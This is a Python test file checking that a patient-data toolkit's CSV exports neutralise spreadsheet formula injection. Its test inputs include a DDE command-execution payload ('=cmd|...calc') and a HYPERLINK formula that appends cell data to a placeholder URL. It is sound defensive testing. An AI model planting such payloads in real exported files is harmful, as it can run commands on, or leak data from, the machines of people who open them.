"""No CSV hepkit writes holds a cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolkit.analysis.tables import table_text
from toolkit.cli.main import main
from toolkit.storage import FORMULA_STARTS, spreadsheet_safe

PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def evaluated(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula?"""
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_formula_starts_are_the_owasp_list():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("P001", "P001"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(typed, written):
    assert spreadsheet_safe(typed) == written


@given(st.lists(st.text(), min_size=1, max_size=5), st.lists(st.text(), min_size=1, max_size=5))
def test_rejects_table_never_holds_a_formula(ids, values):
    count = min(len(ids), len(values))
    rejects = pd.DataFrame(
        {
            "source": ids[:count],
            "row": range(2, count + 2),
            "column": values[:count],
            "value": values[:count],
            "reason": ids[:count],
        }
    )
    written = cells(table_text(rejects, "rejects"))
    assert not [cell for cell in written if evaluated(cell)]


@given(st.text(), st.floats(allow_nan=False, allow_infinity=False))
def test_summary_text_is_neutralised_and_numbers_stay_numbers(patient, number):
    frame = pd.DataFrame({"patient_id": [patient], "flag": ["=cmd|' /C calc'!A0"]})
    frame["date"] = pd.Timestamp("2026-01-05")
    frame["detail"] = "-" + patient
    text = table_text(frame, "flags")
    assert not [cell for cell in cells(text) if evaluated(cell)]
    weekly = pd.DataFrame(
        {
            "patient_id": ["@x"],
            "week_start": [pd.Timestamp("2026-01-05")],
            "days": [7],
            "sessions_prescribed": [number],
            "sessions_done": [-0.5],
            "sessions_logged": [1],
            "session_adherence": [0.5],
            "dose_adherence": [0.5],
            "mean_pain": [3.0],
        }
    )
    row = cells(table_text(weekly, "weekly"))[9:]
    assert row[0] == "'@x"
    assert row[3] == repr(number) and row[4] == "-0.5"


def test_cli_rejects_file_neutralises_patient_text(tmp_path):
    log = tmp_path / "log.csv"
    log.write_text(
        "patient_id,timestamp,exercise_id,completed,pain_before\n"
        '"=HYPERLINK(""http://x.example"")",2026-01-05T09:00,cat-cow,true,@SUM(1+1)\n',
        encoding="utf-8",
    )
    target = tmp_path / "rejects.csv"
    assert main(["logs", str(log), "--today", "2026-11-25", "--rejects", str(target)]) == 1
    written = cells(target.read_text(encoding="utf-8"))
    assert "'@SUM(1+1)" in written
    assert not [cell for cell in written if evaluated(cell)]
